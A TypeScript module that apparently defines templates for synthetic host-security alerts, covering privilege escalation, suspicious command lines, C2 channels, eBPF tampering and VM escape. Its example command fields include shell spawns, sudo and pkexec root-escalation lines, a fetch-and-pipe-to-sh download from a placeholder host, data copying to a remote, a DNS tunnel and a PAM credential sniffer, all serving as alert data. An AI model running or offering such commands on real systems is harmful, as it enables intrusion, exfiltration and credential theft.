import type { AlertTemplate } from '../alert-kind.ts';

/** Alert types about the operating system of a host. */
export const host = {
  cpu_usage: {
    severities: [0, 5, 15, 25, 15],
    titles: ['CPU saturated on {host}', 'CPU starves the GPUs of {host}'],
    descriptions: [
      'CPU utilization on {host} is {percent} % for {count} minutes; {process} uses most of it.',
      'Data loaders of {process} wait for the CPU while GPUs of {host} idle.',
    ],
    commands: ['python3 preprocess.py --workers 96', 'zstd -19 -T0 shard.tar'],
  },
  process_anomaly: {
    severities: [0, 13, 33, 27, 7],
    titles: ['Unusual process tree under {process}', 'Process {process} started by an unexpected parent'],
    descriptions: [
      '{process} (pid {pid}) was started from {file}, which never started processes on {host} before.',
      '{process} forked {count} children within a second and each opened a network socket.',
    ],
    commands: ['bash -i', 'python3 -c "import pty; pty.spawn(\'/bin/sh\')"'],
  },
  privilege_escalation: {
    severities: [15, 12, 3, 0, 0],
    titles: ['Privilege escalation by {user}', 'Process gained root without a login'],
    descriptions: [
      '{process} (pid {pid}) changed from user {user} to root on {host} without passing through sudo or a login.',
      'A setuid binary under {file} was executed by {user} and started a root shell.',
    ],
    commands: ['pkexec /bin/sh', 'sudo -u#-1 /bin/bash'],
  },
  command_line_anomaly: {
    severities: [0, 15, 25, 15, 5],
    titles: ['Suspicious command line', 'Encoded command executed by {user}'],
    descriptions: [
      '{user} ran a command on {host} that decodes and executes text from its own arguments.',
      'The command line of {process} carries an address ({ip}) and a shell redirection.',
    ],
    commands: ['bash -c "echo Y3VybCAtcyBodHRw | base64 -d | sh"', 'curl -s http://{ip}:{port}/i.sh'],
  },
  system_info_change: {
    severities: [0, 4, 11, 15, 11],
    titles: ['System configuration of {host} changed', 'Kernel parameters changed on {host}'],
    descriptions: [
      '{user} changed {file} on {host} outside a change window.',
      'Kernel command line of {host} differs from its last boot: iommu=off was added.',
    ],
    commands: ['sysctl -w kernel.kptr_restrict=0', 'grubby --update-kernel ALL --args iommu=off'],
  },
  network_anomaly: {
    severities: [6, 18, 23, 18, 6],
    titles: ['Unusual outbound traffic from {host}', 'Connection to an address never seen before'],
    descriptions: [
      '{process} sent {size} MiB to {ip}:{port} within {count} minutes. {host} never talked to that network before.',
      '{process} scans port {port} of the cluster network from {host}.',
    ],
    commands: ['rclone copy /data remote:backup', 'nmap -p {port} 10.0.0.0/16'],
  },
  cpu_anomaly: {
    severities: [0, 7, 15, 11, 7],
    titles: ['Cache timing pattern on {host}', 'CPU performance counters show a side channel'],
    descriptions: [
      'Last-level cache misses of {process} follow a prime-and-probe pattern with a period of {count} us.',
      'Machine check events on {host}: {count} corrected errors on one core within the hour.',
    ],
    commands: ['./flush_reload -c 3', 'perf stat -e LLC-load-misses'],
  },
  kernel_oops: {
    severities: [4, 8, 6, 2, 0],
    titles: ['Kernel oops on {host}', 'Kernel NULL pointer dereference in the GPU driver'],
    descriptions: [
      'The kernel of {host} reported an oops in nvidia_uvm while {process} was running. The kernel is tainted.',
      'BUG: unable to handle page fault, RIP in nvidia_drm, pid {pid}, comm {process}.',
    ],
    commands: ['python3 finetune_llama.py', 'tritonserver --model-repository /models'],
  },
  unknown_binary_exec: {
    severities: [5, 20, 20, 5, 0],
    titles: ['Unknown binary executed', 'Binary outside the image executed on {host}'],
    descriptions: [
      '{process} was executed from {file}. Its digest belongs to no package and to no image of this workspace.',
      'A file that {user} downloaded {count} seconds earlier was made executable and run on {host}.',
    ],
    commands: ['/dev/shm/.a/kworkerd', '/tmp/.font-unix/ld-musl'],
  },
  rogue_ebpf: {
    severities: [5, 4, 1, 0, 0],
    titles: ['Unapproved eBPF program loaded', 'eBPF program overrides a system call'],
    descriptions: [
      '{process} loaded an eBPF program of type kprobe that uses bpf_override_return on {host}.',
      'An eBPF program that hides entries of /proc was attached by {user}.',
    ],
    commands: ['bpftool prog load hide.o /sys/fs/bpf/hide', './pamspy -p /usr/lib/libpam.so.0'],
  },
  c2_covert_channel: {
    severities: [12, 6, 2, 0, 0],
    titles: ['Command and control channel', 'DNS tunnel to {domain}'],
    descriptions: [
      '{process} calls {ip}:{port} every {count} seconds with a jitter below one percent, as implants do.',
      '{host} resolved {size} names under {domain} with random labels: data leaves through DNS.',
    ],
    commands: ['./merlin-agent -url https://{domain}:{port}', 'iodine -f {domain}'],
  },
  vm_escape: {
    severities: [8, 2, 0, 0, 0],
    titles: ['Virtual machine escape suspected', 'Guest touched hypervisor memory on {host}'],
    descriptions: [
      'The vGPU manager on {host} crashed in a handler of guest requests; then {process} started outside any guest.',
      'A guest with a virtual {model} wrote {count} times beyond its BAR window.',
    ],
    commands: ['qemu-system-x86_64 -name guest-17', 'nvidia-vgpu-mgr --guest 17'],
    withGpu: true,
  },
} satisfies Record<string, AlertTemplate>;
